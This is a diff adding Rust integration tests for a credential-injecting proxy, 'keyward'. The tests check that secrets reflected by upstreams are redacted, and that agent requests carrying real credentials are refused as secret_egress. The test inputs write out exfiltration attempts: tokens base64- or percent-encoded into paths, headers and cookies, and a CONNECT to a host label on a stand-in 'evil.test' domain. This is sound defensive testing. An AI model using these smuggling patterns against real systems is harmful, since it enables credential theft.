@@ -1,0 +1,770 @@
+//! Leaks (I4): an upstream that reflects the injected credential — in headers, in a body
+//! streamed in tiny frames, base64- or percent-encoded, in trailers, in a redirect, compressed —
+//! never hands it to the agent; a real credential value sent by the agent, in any spelling, is
+//! refused as `secret_egress`; keyward's own answers, logs and audit records carry no secret.
+
+use std::time::Duration;
+
+use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
+use base64::Engine as _;
+use http_body_util::BodyExt;
+use serde_json::json;
+
+use crate::common::{
+    basic, bounded, connect_raw, h2_send, http_response, plain_services_at, tls_services_at,
+    Fixture, Harness, Reply, ScriptUpstream,
+};
+use crate::headers::{allowed_record, h2_req, raw_req, raw_req_at, tunnel_tls_at};
+
+const REDACTED: &str = "keyward_secrets_redacted_total{service=\"plain\"}";
+
+/// The value a reflecting upstream found in the request's `Authorization` (or `x-api-key`).
+fn injected(req: &crate::common::RawSeen) -> String {
+    req.header("authorization")
+        .or_else(|| req.header("x-api-key"))
+        .unwrap_or_default()
+}
+
+fn chunked_head(extra: &str) -> Vec<u8> {
+    format!(
+        "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n{extra}Transfer-Encoding: chunked\r\n\r\n"
+    )
+    .into_bytes()
+}
+
+fn chunk(data: &[u8]) -> Vec<u8> {
+    let mut out = format!("{:x}\r\n", data.len()).into_bytes();
+    out.extend_from_slice(data);
+    out.extend_from_slice(b"\r\n");
+    out
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn credential_reflected_in_one_byte_frames_is_redacted() {
+    let script = ScriptUpstream::start(|req| {
+        let body = format!("before {} after", injected(req));
+        let mut parts = vec![chunked_head("")];
+        parts.extend(body.as_bytes().iter().map(|b| chunk(&[*b])));
+        parts.push(b"0\r\n\r\n".to_vec());
+        Reply::frames(parts, Duration::from_millis(1))
+    })
+    .await;
+    let port = script.port();
+    let f = Fixture::start_with(|p| plain_services_at(p, port)).await;
+    let kw = &f.kw;
+    let task = kw.mint("bot", json!(["plain.issues.read"])).await;
+    let resp = kw
+        .raw(&raw_req_at(
+            port,
+            "GET",
+            "plain.test",
+            "/reflect-auth",
+            &task,
+            "",
+        ))
+        .await;
+    assert_eq!(resp.status, 200);
+    assert_eq!(
+        String::from_utf8_lossy(&resp.body),
+        "before Bearer [redacted] after"
+    );
+    assert_eq!(kw.metric(REDACTED).await, Some(1.0));
+    let rec = allowed_record(kw, &task, "/reflect-auth").await;
+    assert_eq!(rec["status"], 200);
+    kw.assert_no_leaks().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn credential_reflected_base64_and_percent_encoded_in_headers_and_body_is_redacted() {
+    let script = ScriptUpstream::start(|req| {
+        let auth = injected(req);
+        let secret = auth.trim_start_matches("Bearer ").to_string();
+        let pct: String = secret
+            .bytes()
+            .map(|b| {
+                if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
+                    (b as char).to_string()
+                } else {
+                    format!("%{b:02X}")
+                }
+            })
+            .collect();
+        let body = format!(
+            "raw={secret}\nb64={}\nb64nopad={}\nurl={}\npct={pct}\nsplit-frame-next:",
+            STANDARD.encode(&secret),
+            STANDARD.encode(&secret).trim_end_matches('='),
+            URL_SAFE_NO_PAD.encode(&secret),
+        );
+        let headers = [
+            format!("X-Echo: {auth}"),
+            format!("X-Echo-B64: {}", STANDARD.encode(&secret)),
+            format!("Set-Cookie: s={}; Path=/", URL_SAFE_NO_PAD.encode(&secret)),
+            format!("Link: <https://x/?k={pct}>"),
+        ];
+        let headers: Vec<&str> = headers.iter().map(String::as_str).collect();
+        // A second frame carries the rest of a secret split across the frame boundary.
+        let mut first = http_response("200 OK", &headers, b"");
+        first.truncate(first.len() - b"Content-Length: 0\r\n\r\n".len());
+        let (a, b) = secret.split_at(secret.len() / 2);
+        let tail = format!("{a}{b}\n");
+        let len = body.len() + tail.len();
+        first.extend(format!("Content-Length: {len}\r\n\r\n{body}{a}").into_bytes());
+        Reply::frames(
+            vec![first, b.as_bytes().to_vec(), b"\n".to_vec()],
+            Duration::from_millis(20),
+        )
+    })
+    .await;
+    let port = script.port();
+    let f = Fixture::start_with(|p| plain_services_at(p, port)).await;
+    let kw = &f.kw;
+    let task = kw.mint("bot", json!(["plain.issues.read"])).await;
+    let resp = kw
+        .raw(&raw_req_at(
+            port,
+            "GET",
+            "plain.test",
+            "/reflect-auth",
+            &task,
+            "",
+        ))
+        .await;
+    assert_eq!(resp.status, 200, "{}", resp.text());
+    let body = String::from_utf8_lossy(&resp.body).into_owned();
+    for line in body.lines() {
+        if let Some((_, v)) = line.split_once('=') {
+            assert_eq!(v, "[redacted]", "{line}");
+        }
+    }
+    assert!(body.ends_with("split-frame-next:[redacted]\n"), "{body}");
+    assert_eq!(resp.header("x-echo").as_deref(), Some("Bearer [redacted]"));
+    assert_eq!(resp.header("x-echo-b64").as_deref(), Some("[redacted]"));
+    let b64 = STANDARD.encode(&f.creds.api_token);
+    let url = URL_SAFE_NO_PAD.encode(&f.creds.api_token);
+    let text = resp.text();
+    for form in [
+        &f.creds.api_token,
+        &b64,
+        &url,
+        &b64.trim_end_matches('=').to_string(),
+    ] {
+        assert!(
+            !text.contains(form.as_str()),
+            "a form of the secret reached the agent"
+        );
+    }
+    let n = kw.metric(REDACTED).await.unwrap_or(0.0);
+    assert!(n >= 9.0, "redactions counted: {n}");
+    kw.assert_no_leaks().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn credential_reflected_in_trailers_is_redacted_for_an_http2_agent() {
+    let ca = crate::common::TestCa::new();
+    let script = ScriptUpstream::tls(&ca, &["secure.test"], |req| {
+        let key = injected(req);
+        let mut parts = chunked_head("Trailer: X-Echo-Key\r\n");
+        parts.extend(chunk(b"body"));
+        parts.extend(format!("0\r\nX-Echo-Key: {key}\r\nX-Plain: fine\r\n\r\n").into_bytes());
+        Reply::bytes(parts)
+    })
+    .await;
+    let port = script.port();
+    let f = Fixture::start_with(|p| tls_services_at(p, port)).await;
+    // The scripted upstream has its own CA: trust it instead of the fixture's.
+    std::fs::write(f.kw.path("upstream-ca.pem"), &ca.pem).unwrap();
+    let (status, _) = f.kw.admin(http::Method::POST, "/v1/reload", None).await;
+    assert_eq!(status, 200);
+    let kw = &f.kw;
+    let task = kw.mint("bot", json!(["secure.read"])).await;
+    let tls = tunnel_tls_at(&f, &task, "secure.test", port, &[b"h2"]).await;
+    let mut conn = crate::common::h2_over(tls).await;
+    // h2_send drops trailers; read the body frames by hand.
+    let uri = format!("https://secure.test:{port}/reflect-auth");
+    bounded("ready", conn.ready()).await.unwrap();
+    let resp = bounded("response", conn.send_request(h2_req("GET", &uri, b"")))
+        .await
+        .unwrap();
+    assert_eq!(resp.status(), 200);
+    let collected = bounded("body", resp.into_body().collect()).await.unwrap();
+    let trailers = collected.trailers().cloned().unwrap_or_default();
+    let body = collected.to_bytes();
+    kw.saw(&format!("{trailers:?}\n{}", String::from_utf8_lossy(&body)));
+    assert_eq!(&body[..], b"body");
+    assert_eq!(
+        trailers.get("x-echo-key").map(|v| v.to_str().unwrap()),
+        Some("[redacted]"),
+        "{trailers:?}"
+    );
+    assert_eq!(trailers.get("x-plain").unwrap(), "fine");
+    assert_eq!(script.hits(), 1);
+    assert_eq!(
+        kw.metric("keyward_secrets_redacted_total{service=\"secure\"}")
+            .await,
+        Some(1.0)
+    );
+    kw.assert_no_leaks().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn query_and_basic_credentials_reflected_in_a_redirect_and_a_bodiless_answer_are_redacted() {
+    let script = ScriptUpstream::start(|req| {
+        let line = req.request_line().to_string();
+        let target = line.split(' ').nth(1).unwrap_or("").to_string();
+        if line.starts_with("HEAD") {
+            // A bodiless answer still has headers.
+            let auth = injected(req);
+            Reply::bytes(
+                format!("HTTP/1.1 200 OK\r\nX-Echo: {auth}\r\nContent-Length: 10\r\n\r\n")
+                    .into_bytes(),
+            )
+        } else if target.starts_with("/whoami") {
+            Reply::bytes(
+                format!(
+                    "HTTP/1.1 204 No Content\r\nX-Echo: {}\r\n\r\n",
+                    injected(req)
+                )
+                .into_bytes(),
+            )
+        } else {
+            Reply::bytes(http_response(
+                "302 Found",
+                &[&format!("Location: https://elsewhere.test{target}")],
+                b"",
+            ))
+        }
+    })
+    .await;
+    let port = script.port();
+    let f = Fixture::start_with(|p| {
+        plain_services_at(p, port).replace("routes: [GET /whoami]", "routes: [GET|HEAD /whoami]")
+    })
+    .await;
+    let kw = &f.kw;
+    let task = kw
+        .mint("bot", json!(["query.search", "basic.whoami"]))
+        .await;
+    let resp = kw
+        .raw(&raw_req_at(
+            port,
+            "GET",
+            "query.test",
+            "/search?q=1",
+            &task,
+            "",
+        ))
+        .await;
+    assert_eq!(resp.status, 302);
+    let location = resp.header("location").unwrap();
+    assert!(location.contains("api_key=[redacted]"), "{location}");
+    assert!(script.seen()[0].request_line().contains(&f.creds.query_key));
+
+    let resp = kw
+        .raw(&raw_req_at(port, "GET", "basic.test", "/whoami", &task, ""))
+        .await;
+    assert_eq!(resp.status, 204);
+    assert_eq!(resp.header("x-echo").as_deref(), Some("Basic [redacted]"));
+
+    let resp = kw
+        .raw(&raw_req_at(
+            port,
+            "HEAD",
+            "basic.test",
+            "/whoami",
+            &task,
+            "",
+        ))
+        .await;
+    assert_eq!(resp.status, 200);
+    assert_eq!(resp.header("x-echo").as_deref(), Some("Basic [redacted]"));
+    assert_eq!(script.hits(), 3);
+    kw.assert_no_leaks().await;
+}
+
+/// Deflate with fixed Huffman codes, literals only: no byte of the input survives as is.
+fn gzip_fixed_huffman(data: &[u8]) -> Vec<u8> {
+    struct Bits {
+        out: Vec<u8>,
+        acc: u32,
+        n: u32,
+    }
+    impl Bits {
+        fn put(&mut self, value: u32, len: u32) {
+            self.acc |= value << self.n;
+            self.n += len;
+            while self.n >= 8 {
+                self.out.push(self.acc as u8);
+                self.acc >>= 8;
+                self.n -= 8;
+            }
+        }
+        /// Huffman codes go most significant bit first.
+        fn code(&mut self, code: u32, len: u32) {
+            for i in (0..len).rev() {
+                self.put((code >> i) & 1, 1);
+            }
+        }
+    }
+    let mut bits = Bits {
+        out: vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff],
+        acc: 0,
+        n: 0,
+    };
+    bits.put(1, 1); // BFINAL
+    bits.put(1, 2); // BTYPE = fixed Huffman
+    for &b in data {
+        if b < 144 {
+            bits.code(0x30 + u32::from(b), 8);
+        } else {
+            bits.code(0x190 + u32::from(b) - 144, 9);
+        }
+    }
+    bits.code(0, 7); // end of block
+    if bits.n > 0 {
+        bits.out.push(bits.acc as u8);
+    }
+    let mut crc = !0u32;
+    for &b in data {
+        crc ^= u32::from(b);
+        for _ in 0..8 {
+            crc = if crc & 1 == 1 {
+                (crc >> 1) ^ 0xEDB8_8320
+            } else {
+                crc >> 1
+            };
+        }
+    }
+    let mut out = bits.out;
+    out.extend_from_slice(&(!crc).to_le_bytes());
+    out.extend_from_slice(&(data.len() as u32).to_le_bytes());
+    out
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn credential_reflected_inside_a_compressed_body_never_reaches_the_agent() {
+    let script = ScriptUpstream::start(|req| {
+        let gz = gzip_fixed_huffman(format!("you sent: {}\n", injected(req)).as_bytes());
+        let line = req.request_line().to_string();
+        let bytes = if line.contains("te=gzip") {
+            // Transfer-coded instead: hyper removes the chunking, the gzip stays.
+            let mut out = chunked_head("").to_vec();
+            out = String::from_utf8(out)
+                .unwrap()
+                .replace(
+                    "Transfer-Encoding: chunked",
+                    "Transfer-Encoding: gzip, chunked",
+                )
+                .into_bytes();
+            out.extend(chunk(&gz));
+            out.extend(b"0\r\n\r\n");
+            out
+        } else {
+            http_response("200 OK", &["Content-Encoding: gzip"], &gz)
+        };
+        Reply::bytes(bytes)
+    })
+    .await;
+    let port = script.port();
+    let f = Fixture::start_with(|p| plain_services_at(p, port)).await;
+    let kw = &f.kw;
+    let task = kw.mint("bot", json!(["plain.issues.read"])).await;
+    let secret_gz =
+        gzip_fixed_huffman(format!("you sent: Bearer {}\n", f.creds.api_token).as_bytes());
+    for path in ["/reflect-auth?ce=gzip", "/reflect-auth?te=gzip"] {
+        let resp = kw
+            .raw(&raw_req_at(
+                port,
+                "GET",
+                "plain.test",
+                path,
+                &task,
+                "Accept-Encoding: gzip, br\r\n",
+            ))
+            .await;
+        // keyward asked for an unencoded response on a credentialed request…
+        let seen = script.seen();
+        let last = seen.last().unwrap();
+        assert_eq!(
+            last.header_all("accept-encoding"),
+            vec!["identity".to_string()]
+        );
+        // …and an upstream that encodes anyway is not relayed: the agent could decode it.
+        assert!(
+            !resp
+                .body
+                .windows(secret_gz.len())
+                .any(|w| w == secret_gz.as_slice()),
+            "{path}: the compressed credential reached the agent"
+        );
+        assert_eq!(resp.status, 502, "{path}: {}", resp.text());
+        let problem: serde_json::Value = serde_json::from_slice(&resp.body).unwrap();
+        let rec = kw.audit_for(problem["request_id"].as_str().unwrap()).await;
+        assert_eq!(rec["reason"], "allowed", "{rec}");
+        assert_eq!(rec["status"], 502, "{rec}");
+    }
+    kw.assert_no_leaks().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn real_credential_sent_by_the_agent_in_any_spelling_is_secret_egress() {
+    let f = Fixture::start().await;
+    let kw = &f.kw;
+    let task = kw
+        .mint("bot", json!(["plain.issues.read", "basic.whoami"]))
+        .await;
+    let api = &f.creds.api_token;
+    let pct_all: String = api.bytes().map(|b| format!("%{b:02x}")).collect();
+    let pct_underscore = api.replace('_', "%5F");
+    let cases: Vec<(&str, String, String)> = vec![
+        (
+            "raw in a path segment",
+            format!("/repos/{api}/web/issues"),
+            String::new(),
+        ),
+        (
+            "percent-encoded query",
+            format!("/echo?k={pct_underscore}"),
+            String::new(),
+        ),
+        (
+            "fully percent-encoded query",
+            format!("/echo?k={pct_all}"),
+            String::new(),
+        ),
+        (
+            "base64 header",
+            "/echo".into(),
+            format!("X-Note: {}\r\n", STANDARD.encode(api)),
+        ),
+        (
+            "base64url header",
+            "/echo".into(),
+            format!("X-Note: {}\r\n", URL_SAFE_NO_PAD.encode(api)),
+        ),
+        (
+            "base64 query",
+            format!("/echo?t={}", URL_SAFE_NO_PAD.encode(api)),
+            String::new(),
+        ),
+        (
+            "another service's Basic pair",
+            "/echo".into(),
+            format!("X-Forward-Auth: {}\r\n", basic("bot", &f.creds.basic_pw)),
+        ),
+        (
+            "percent-encoded header",
+            "/echo".into(),
+            format!("Cookie: s={pct_all}\r\n"),
+        ),
+        ("in the Host header", "/echo".into(), String::new()),
+        (
+            "as a header name",
+            "/echo".into(),
+            format!("X-{api}: 1\r\n"),
+        ),
+    ];
+    for (what, path, extra) in cases {
+        let req = if what == "in the Host header" {
+            raw_req(&f, "GET", "plain.test", &path, &task, "").replacen(
+                "Host: plain.test",
+                &format!("Host: {api}.plain.test"),
+                1,
+            )
+        } else {
+            raw_req(&f, "GET", "plain.test", &path, &task, &extra)
+        };
+        let resp = kw.raw(&req).await;
+        let reason = resp.header("x-keyward-reason");
+        // A Host naming another host is refused before the scan; either way nothing is sent.
+        if what == "in the Host header" {
+            assert!(
+                resp.status == 400 || resp.status == 403,
+                "{what}: {}",
+                resp.text()
+            );
+            let (_, rec) = kw
+                .assert_denied_raw(&resp, resp.status, reason.as_deref().unwrap())
+                .await;
+            assert!(!rec.to_string().contains(api.as_str()), "{what}: {rec}");
+            continue;
+        }
+        assert_eq!(
+            reason.as_deref(),
+            Some("secret_egress"),
+            "{what}: {}",
+            resp.text()
+        );
+        let (_, rec) = kw.assert_denied_raw(&resp, 403, "secret_egress").await;
+        assert!(
+            !rec.to_string().contains(api.as_str()),
+            "{what}: the record carries it: {rec}"
+        );
+    }
+    // Inside a tunnel, over HTTP/2, another service's credential in a header.
+    let secure = kw.mint("bot", json!(["secure.read"])).await;
+    let tls = crate::headers::tunnel_tls(&f, &secure, "secure.test", &[b"h2"]).await;
+    let mut conn = crate::common::h2_over(tls).await;
+    let mut req = h2_req("GET", &f.tls_url("secure.test", "/echo"), b"");
+    req.headers_mut().insert(
+        "x-debug",
+        STANDARD.encode(&f.creds.other_token).parse().unwrap(),
+    );
+    let resp = h2_send(&mut conn, req).await;
+    kw.saw(&resp.text());
+    kw.assert_denied_raw(&resp, 403, "secret_egress").await;
+    assert_eq!(f.plain.hits(), 0, "a credential left keyward");
+    assert_eq!(f.tls.hits(), 0, "a credential left keyward");
+    kw.assert_no_leaks().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn credential_in_a_connect_authority_is_refused_and_never_recorded() {
+    let f = Fixture::start().await;
+    let kw = &f.kw;
+    let task = kw.mint("bot", json!(["secure.read"])).await;
+    let api = f.creds.api_token.to_ascii_lowercase();
+    let (_tcp, resp) = connect_raw(
+        kw.proxy_addr,
+        &format!("{api}.evil.test:443"),
+        Some(&Harness::proxy_auth(&task)),
+    )
+    .await;
+    kw.saw(&resp.text());
+    let (_, rec) = kw.assert_denied_raw(&resp, 403, "secret_egress").await;
+    assert_eq!(rec["host"], "[redacted]", "{rec}");
+    assert!(!rec.to_string().contains(&api), "{rec}");
+    // Refused for another reason first (no credentials), the record still does not carry it.
+    let (_tcp, resp) = connect_raw(kw.proxy_addr, &format!("{api}.evil.test:443"), None).await;
+    kw.saw(&resp.text());
+    let (_, rec) = kw
+        .assert_denied_raw(&resp, 407, "missing_credentials")
+        .await;
+    assert!(!rec.to_string().contains(&api), "{rec}");
+    assert_eq!(
+        kw.metric("keyward_tls_leaf_certs_issued_total").await,
+        Some(0.0)
+    );
+    kw.assert_no_leaks().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn keywards_own_errors_logs_and_records_carry_no_secret() {
+    let f = Fixture::start().await;
+    let kw = &f.kw;
+    let task = kw
+        .mint("bot", json!(["plain.issues.read", "dead.ping"]))
+        .await;
+    let api = f.creds.api_token.clone();
+    // A real credential as the proxy token, as the task id, in a Bearer proxy credential.
+    for auth in [
+        basic(&task.id, &api),
+        basic(&api, &task.token),
+        format!("Bearer {api}"),
+    ] {
+        let req = format!(
+            "GET http://plain.test:{0}/echo HTTP/1.1\r\nHost: plain.test:{0}\r\nProxy-Authorization: {auth}\r\nConnection: close\r\n\r\n",
+            f.plain.port()
+        );
+        let resp = kw.raw(&req).await;
+        assert_eq!(resp.status, 407, "{}", resp.text());
+        kw.assert_denied_raw(&resp, 407, "invalid_token").await;
+    }
+    // The task's own token where the credential goes: replaced, never forwarded.
+    let resp = kw
+        .raw(&raw_req(
+            &f,
+            "GET",
+            "plain.test",
+            "/echo",
+            &task,
+            &format!("Authorization: Bearer {}\r\n", task.token),
+        ))
+        .await;
+    assert_eq!(resp.status, 200);
+    assert!(!f
+        .plain
+        .last()
+        .header("authorization")
+        .unwrap()
+        .contains(&task.token));
+    // A credential as the method: refused (no route has it), and not recorded.
+    let resp = kw
+        .raw(&raw_req(
+            &f,
+            &api.to_ascii_uppercase(),
+            "plain.test",
+            "/echo",
+            &task,
+            "",
+        ))
+        .await;
+    assert_eq!(resp.status, 403, "{}", resp.text());
+    let reason = resp.header("x-keyward-reason").unwrap();
+    let (_, rec) = kw.assert_denied_raw(&resp, 403, &reason).await;
+    assert!(
+        !rec.to_string()
+            .to_ascii_lowercase()
+            .contains(&api.to_ascii_lowercase()),
+        "{rec}"
+    );
+    let resp = kw
+        .raw(&raw_req(&f, &api, "plain.test", "/echo", &task, ""))
+        .await;
+    let reason = resp.header("x-keyward-reason").unwrap();
+    let (_, rec) = kw.assert_denied_raw(&resp, 403, &reason).await;
+    assert!(!rec.to_string().contains(&api), "{rec}");
+    // Upstream failures: the problem documents carry no secret either.
+    let resp = kw
+        .raw(&format!(
+            "GET http://dead.test:{0}/ping HTTP/1.1\r\nHost: dead.test:{0}\r\nProxy-Authorization: {1}\r\nConnection: close\r\n\r\n",
+            f.dead_port,
+            Harness::proxy_auth(&task)
+        ))
+        .await;
+    assert_eq!(resp.status, 502);
+    // Metrics after hostile input name no task, token, path or query.
+    let metrics = kw.metrics().await;
+    assert!(!metrics.contains(&task.id), "task id in /metrics");
+    assert!(!metrics.contains("/echo"), "a path in /metrics");
+    let logs = crate::common::captured_logs();
+    assert!(!logs.contains(&api));
+    kw.assert_no_leaks().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn credential_reflected_in_a_reason_phrase_header_name_or_informational_response_is_not_relayed(
+) {
+    let script = ScriptUpstream::start(|req| {
+        let auth = injected(req);
+        let secret = auth.trim_start_matches("Bearer ").to_string();
+        let line = req.request_line().to_string();
+        let bytes = if line.contains("case=reason") {
+            format!("HTTP/1.1 200 {auth}\r\nContent-Length: 2\r\n\r\nok").into_bytes()
+        } else if line.contains("case=name") {
+            format!("HTTP/1.1 200 OK\r\nX-{secret}: 1\r\nContent-Length: 2\r\n\r\nok").into_bytes()
+        } else {
+            format!(
+                "HTTP/1.1 103 Early Hints\r\nLink: <https://x/{secret}>\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
+            )
+            .into_bytes()
+        };
+        Reply::bytes(bytes)
+    })
+    .await;
+    let port = script.port();
+    let f = Fixture::start_with(|p| plain_services_at(p, port)).await;
+    let kw = &f.kw;
+    let task = kw.mint("bot", json!(["plain.issues.read"])).await;
+    for case in ["reason", "name", "informational"] {
+        let mut tcp = tokio::net::TcpStream::connect(kw.proxy_addr).await.unwrap();
+        let req = raw_req_at(
+            port,
+            "GET",
+            "plain.test",
+            &format!("/echo?case={case}"),
+            &task,
+            "",
+        );
+        tokio::io::AsyncWriteExt::write_all(&mut tcp, req.as_bytes())
+            .await
+            .unwrap();
+        let mut buf = Vec::new();
+        let _ = bounded(
+            "read",
+            tokio::io::AsyncReadExt::read_to_end(&mut tcp, &mut buf),
+        )
+        .await;
+        let text = String::from_utf8_lossy(&buf).into_owned();
+        kw.saw(&text);
+        assert!(
+            !text.contains(&f.creds.api_token),
+            "{case}: the credential reached the agent"
+        );
+        assert!(text.starts_with("HTTP/1.1 "), "{case}: {text}");
+    }
+    assert_eq!(script.hits(), 3);
+    // The dropped header name counts as a redaction.
+    assert!(kw.metric(REDACTED).await.unwrap_or(0.0) >= 1.0);
+    kw.assert_no_leaks().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn credential_in_a_wildcard_host_label_is_secret_egress_with_or_without_host_header() {
+    let f = Fixture::start_with(|p| {
+        let port = p
+            .split("connect_to: 127.0.0.1:")
+            .nth(1)
+            .and_then(|r| r.lines().next())
+            .unwrap()
+            .to_string();
+        p.replace(
+            "  secure:\n",
+            &format!(
+                "  wild:\n    hosts: [\"*.wild.test\"]\n    scheme: http\n    port: {port}\n    connect_to: 127.0.0.1:{port}\n    allow_cleartext: true\n    inject: {{ header: Authorization, value: \"Bearer ${{credential}}\", credential: api_token }}\n  secure:\n"
+            ),
+        )
+        .replace(
+            "capabilities:\n  plain.issues.read:",
+            "capabilities:\n  wild.read:\n    service: wild\n    routes: [GET /echo]\n  plain.issues.read:",
+        )
+        .replace("capabilities: [plain.issues.read, ", "capabilities: [wild.read, plain.issues.read, ")
+    })
+    .await;
+    let kw = &f.kw;
+    let task = kw.mint("bot", json!(["wild.read"])).await;
+    let port = f.plain.port();
+    // Control: an ordinary label is served.
+    let resp = kw
+        .raw(&raw_req(&f, "GET", "a.wild.test", "/echo", &task, ""))
+        .await;
+    assert_eq!(resp.status, 200, "{}", resp.text());
+    let label = f.creds.tls_token.clone();
+    let auth = Harness::proxy_auth(&task);
+    for with_host in [true, false] {
+        let host_line = if with_host {
+            format!("Host: {label}.wild.test:{port}\r\n")
+        } else {
+            String::new()
+        };
+        let req = format!(
+            "GET http://{label}.wild.test:{port}/echo HTTP/1.1\r\n{host_line}Proxy-Authorization: {auth}\r\nConnection: close\r\n\r\n"
+        );
+        let resp = kw.raw(&req).await;
+        eprintln!(
+            "DEBUG with_host={with_host} req={req:?} status={}",
+            resp.status
+        );
+        let (_, rec) = kw.assert_denied_raw(&resp, 403, "secret_egress").await;
+        assert_eq!(rec["host"], "[redacted]", "{rec}");
+    }
+    assert_eq!(f.plain.hits(), 1, "the credential left in a host name");
+    kw.assert_no_leaks().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn agents_own_token_in_an_allowed_path_is_never_recorded() {
+    let f = Fixture::start().await;
+    let kw = &f.kw;
+    let task = kw.mint("bot", json!(["plain.issues.read"])).await;
+    // `{number}` takes any segment, so the route allows it; the upstream gets the agent's bytes.
+    let path = format!("/repos/acme/web/issues/{}", task.token);
+    let resp = kw
+        .raw(&raw_req(&f, "GET", "plain.test", &path, &task, ""))
+        .await;
+    assert_eq!(resp.status, 200, "{}", resp.text());
+    assert_eq!(f.plain.last().path, path);
+    let rec = allowed_record(kw, &task, "/repos/acme/web/issues/[redacted]").await;
+    assert_eq!(
+        rec["route"], "GET /repos/{owner}/{repo}/issues/{number}",
+        "{rec}"
+    );
+    // The echo upstream hands the path back, so the agent reads its own token: that is not a
+    // leak. What keyward keeps must not have it.
+    for (place, text) in [
+        ("the audit log", kw.audit_text()),
+        ("/metrics", kw.metrics().await),
+        ("keyward's log output", crate::common::captured_logs()),
+    ] {
+        crate::common::assert_absent(&task.token, place, &text);
+    }
+}
